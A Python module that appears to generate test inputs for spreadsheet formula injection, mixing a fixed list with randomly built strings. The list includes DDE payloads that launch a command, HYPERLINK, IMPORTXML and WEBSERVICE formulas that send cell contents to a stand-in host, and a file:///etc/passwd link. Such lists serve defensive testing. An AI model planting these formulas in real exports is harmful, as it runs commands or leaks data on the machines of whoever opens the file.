"""Texts that somebody may type, and that a spreadsheet would rather calculate, link, date or cut."""

import random

KNOWN = [
    *("=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://example.org/?"&A1,"more")', '=IMPORTXML(CONCAT("http://example.org",A2),"//a")'),
    *('=DDE("cmd";"/C calc";"x")', "=WEBSERVICE(A1)", '=IMAGE("http://example.org/a.png")', "=1=1", "==1", "=-1"),
    *("'=1+1", "''=1+1", "'", "''", "'plain", '"=1+1"', '"', '""', ",=1+1", ";=1+1", "{=1+1}", "=", "+", "-", "@"),
    *("-1", "+86 571 1234 5678", "-石墨烯", "@company", "= 1", " =1+1", "\n=1+1", "a\n=1+1", "a\r\n=1+1", "a\tb"),
    *("0012", "12345678901234567890", "1e5", "1-2", "2026-01-05", "3/4", "TRUE", "FALSE", "NULL", "#REF!", "#N/A"),
    *("http://example.org/", "mailto:a@example.org", "file:///etc/passwd", "internal:Sheet1!A1", "_x003D_1+1"),
    *(
        "石墨烯，涂层",
        "“引号”",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM",
        "\u200b=1+1",
        "\u00a0=1+1",
        "\ufeff=1",
        "😀=1",
        "%0A=1",
    ),
    *("<f>1+1</f>", "&=1", "a,b", 'a"b', "a;b", "a|b", "\\=1", "trailing ", "# 1", "=" * 80, "-" * 80),
]
HEADS = ["=", "+", "-", "@", "\t", "\r", "'=", "'+", "''-", "", "", " ", "\n"]
BODIES = ["1+1", "cmd|' /C calc'!A0", "SUM(A1)", "A1", '"', "'", ",", ";", "石墨烯", "x", " ", "0", "(", "&", "<"]
BODIES += ["\n", "\r\n"]


def make_payloads(count: int, chance: random.Random) -> list[str]:
    """The known ones, then others made of dangerous beginnings and awkward bodies; none twice, none blank."""
    found = dict.fromkeys(KNOWN)
    while len(found) < count:
        made = chance.choice(HEADS) + "".join(chance.choice(BODIES) for _ in range(chance.randint(1, 6)))
        if made.strip() and not made.isspace():
            found.setdefault(made)
    return list(found)[:count]
